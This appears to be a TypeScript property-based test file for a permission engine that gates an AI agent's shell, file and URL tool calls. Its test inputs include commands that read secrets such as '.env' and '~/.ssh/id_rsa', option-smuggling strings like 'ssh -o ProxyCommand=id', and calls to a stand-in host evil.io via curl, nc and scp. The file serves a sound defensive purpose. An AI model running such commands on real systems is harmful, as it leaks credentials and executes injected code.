// Properties of issue 19's rules over random policies, calls and modes: a dangerous option never
// makes a decision more permissive (unless a rule spells it out), and a file deny rule never
// makes a shell command more permissive.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compilePolicy, evaluate, type Action, type Mode, type RuleInput } from './index';

const SEVERITY: Record<Action, number> = { allow: 0, ask: 1, deny: 2 };
const MODES: Mode[] = ['default', 'acceptEdits', 'plan', 'dontAsk', 'bypassPermissions'];
const action = fc.constantFrom<Action>('allow', 'ask', 'deny');
const mode = fc.constantFrom(...MODES);
const ctxOf = (m: Mode, grants: RuleInput[] = []) => ({ mode: m, grants, workspaceRoot: '/ws', homeDir: '/home/u' });

/** A command, and the same command with a dangerous option added. */
const WITH_DANGER: [string, string][] = [
  ['sed s/a/b/ f', 'sed -i s/a/b/ f'],
  ['sed -n 1p f', "sed -n '1e id' f"],
  ['find . -name x', 'find . -name x -delete'],
  ['git status', 'git -c core.pager=id status'],
  ['git status', 'git -C /tmp status'],
  ['git log -n 1', 'git log -n 1 --output=/tmp/x'],
  ['curl https://x.io', 'curl -o out https://x.io'],
  ['sort f', 'sort -o out f'],
  ['perl x.pl', 'perl -e 1 x.pl'],
  ['python x.py', 'python -c 1 x.py'],
  ['tar -xf a.tar', 'tar -xf a.tar --to-command=sh'],
  ['rsync -a a b', 'rsync -a --delete a b'],
  ['ssh host', 'ssh -o ProxyCommand=id host'],
  ['npm ls', 'npm --script-shell=/x ls'],
  ["awk '{ print }' f", 'awk \'{ print > "o" }\' f'],
];
const PATTERNS = [
  'sed *',
  'sed s/a/b/ *',
  'sed -n *',
  'find *',
  'find . -name *',
  'git *',
  'git status *',
  'git status',
  'git log *',
  'curl *',
  'sort *',
  'sort f',
  'perl *',
  'python *',
  'tar *',
  'tar -xf *',
  'rsync *',
  'rsync -a *',
  'ssh *',
  'npm *',
  'npm ls *',
  'awk *',
  '*',
  'sed s/a/b/ f',
  'timeout *',
];
const rule = fc
  .tuple(action, fc.constantFrom(...PATTERNS))
  .map(([a, command]): RuleInput => ({ action: a, tool: 'bash', params: { command } }));
const grant = fc
  .constantFrom(...PATTERNS)
  .map((command): RuleInput => ({ action: 'allow', tool: 'bash', params: { command } }));
const wrap = fc.constantFrom('', 'timeout 5 ', 'ls && ', 'echo x | ');

describe('dangerous options', () => {
  it('a dangerous option never makes a decision more permissive, with rules that do not spell it out', () => {
    fc.assert(
      fc.property(
        fc.array(rule, { maxLength: 8 }),
        action,
        fc.constantFrom(...WITH_DANGER),
        wrap,
        mode,
        fc.array(grant, { maxLength: 2 }),
        (rules, defaultAction, [plain, dangerous], prefix, m, grants) => {
          const policy = compilePolicy({ defaultAction, rules });
          const before = evaluate(policy, { tool: 'bash', params: { command: prefix + plain } }, ctxOf(m, grants));
          const after = evaluate(policy, { tool: 'bash', params: { command: prefix + dangerous } }, ctxOf(m, grants));
          expect(SEVERITY[after.action], `${after.explanation} / before: ${before.explanation}`).toBeGreaterThanOrEqual(
            SEVERITY[before.action],
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});

const FILE_PATTERNS = [
  '**/.env',
  '.env',
  'src/**',
  '/etc/**',
  '~/.ssh/**',
  '**/*.pem',
  '*.txt',
  '/**',
  'a/b/**',
  '**/secret*',
  'src/{a,b}.ts',
  '**/x/../y',
];
const fileDeny = fc
  .tuple(
    fc.constantFrom('read_file', 'write_file', 'edit_file', '*', '*_file'),
    fc.constantFrom(...FILE_PATTERNS),
    fc.boolean(),
  )
  .map(([tool, path, asCondition]): RuleInput =>
    asCondition
      ? { action: 'deny', tool, when: [{ key: 'path', op: 'glob', value: path }] }
      : { action: 'deny', tool, params: { path } },
  );
const SHELL_PATTERNS = [
  'cat *',
  'grep *',
  'cp *',
  'echo *',
  'cd *',
  'tee *',
  'ls *',
  '*',
  'sed *',
  'rm *',
  'xargs *',
  'find *',
];
const shellOrFileRule = fc.oneof(
  fc
    .tuple(action, fc.constantFrom(...SHELL_PATTERNS))
    .map(([a, command]): RuleInput => ({ action: a, tool: 'bash', params: { command } })),
  fc
    .tuple(action, fc.constantFrom('read_file', 'write_file', '*'), fc.constantFrom(...FILE_PATTERNS))
    .map(([a, tool, path]): RuleInput => ({ action: a, tool, params: { path } })),
);
const FILE_COMMANDS = [
  'cat .env',
  'cat src/a.ts',
  'cat "$F"',
  'cat *.txt',
  'cat .e*',
  'grep -r x .',
  'grep x src/a.ts',
  'cp a b.pem',
  'cp .env /tmp/x',
  'echo x > out.txt',
  'echo x > k.pem',
  'cd src && cat .env',
  'cd /etc; cat passwd',
  'cd "$D" && cat x',
  'tee a.txt',
  'sed -i s/a/b/ f',
  'rm -r build',
  'ls | xargs cat',
  'find . -exec cat {} \\;',
  'cat < .env',
  'cat ~/.ssh/id_rsa',
  'cat ../ws/.env',
  '{ cat a; } > k.pem',
  'env -C /etc cat hosts',
  'bash -c "cd /etc && cat x"',
  'ls -la',
];
const fileCommand = fc
  .array(fc.constantFrom(...FILE_COMMANDS), { minLength: 1, maxLength: 3 })
  .map((parts) => parts.join(' ; '));

describe('file rules that follow the shell', () => {
  it('adding a file deny rule never makes a shell command more permissive, in every mode', () => {
    fc.assert(
      fc.property(
        fc.array(shellOrFileRule, { maxLength: 8 }),
        action,
        fileCommand,
        fileDeny,
        fc.nat(),
        mode,
        fc.array(grant, { maxLength: 2 }),
        (rules, defaultAction, command, deny, at, m, grants) => {
          const call = { tool: 'bash', params: { command } };
          const before = evaluate(compilePolicy({ defaultAction, rules }), call, ctxOf(m, grants));
          const i = at % (rules.length + 1);
          const after = evaluate(
            compilePolicy({ defaultAction, rules: [...rules.slice(0, i), deny, ...rules.slice(i)] }),
            call,
            ctxOf(m, grants),
          );
          expect(SEVERITY[after.action], `${after.explanation} / before: ${before.explanation}`).toBeGreaterThanOrEqual(
            SEVERITY[before.action],
          );
        },
      ),
      { numRuns: 500 },
    );
  });

  it('a file deny rule that names a file a part reads or writes denies the command, whatever allows it', () => {
    const cases: [string, string, string][] = [
      ['read_file', '.env', 'cat .env'],
      ['read_file', 'src/.env', 'cd src && cat .env'],
      ['write_file', 'k.pem', 'echo x > k.pem'],
      ['edit_file', 'f', 'sed -i s/a/b/ f'],
      ['read_file', '/etc/passwd', 'cd /etc; cat passwd'],
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...cases),
        fc.array(shellOrFileRule, { maxLength: 6 }),
        mode,
        ([tool, path, command], rules, m) => {
          const policy = compilePolicy({
            rules: [...rules, { action: 'deny', tool, params: { path } }, { action: 'allow', tool: 'bash' }],
          });
          expect(evaluate(policy, { tool: 'bash', params: { command } }, ctxOf(m)).action).toBe('deny');
        },
      ),
      { numRuns: 200 },
    );
  });
});

const HOST_COMMANDS = [
  'curl https://evil.io/x',
  'curl "$U"',
  'wget ok.io',
  'nc evil.io 80',
  'ssh root@evil.io',
  'git clone git@evil.io:x/y',
  'git fetch origin',
  'echo x | xargs curl',
  'scp f evil.io:/',
  'curl "https://ok.io/$P"',
  'ls',
];
const hostDeny = fc
  .tuple(
    fc.constantFrom('fetch_url', '*'),
    fc.constantFrom('https://evil.io/**', '*', 'http://**', 'https://*.io/**'),
    fc.constantFrom('evil.io', 'ok.io', '10.0.0.0/8'),
    fc.boolean(),
  )
  .map(([tool, url, host, byHost]): RuleInput =>
    byHost
      ? { action: 'deny', tool, when: [{ key: 'url', op: 'host', value: host }] }
      : { action: 'deny', tool, params: { url } },
  );

describe('host rules that follow the shell', () => {
  it('adding a fetch_url deny rule never makes a shell command more permissive, in every mode', () => {
    fc.assert(
      fc.property(
        fc.array(rule, { maxLength: 6 }),
        action,
        fc.array(fc.constantFrom(...HOST_COMMANDS), { minLength: 1, maxLength: 3 }),
        hostDeny,
        mode,
        (rules, defaultAction, parts, deny, m) => {
          const call = { tool: 'bash', params: { command: parts.join(' && ') } };
          const allowAll: RuleInput = { action: 'allow', tool: 'bash', params: { command: '*' } };
          const before = evaluate(compilePolicy({ defaultAction, rules: [...rules, allowAll] }), call, ctxOf(m));
          const after = evaluate(compilePolicy({ defaultAction, rules: [...rules, allowAll, deny] }), call, ctxOf(m));
          expect(SEVERITY[after.action]).toBeGreaterThanOrEqual(SEVERITY[before.action]);
        },
      ),
      { numRuns: 300 },
    );
  });
});
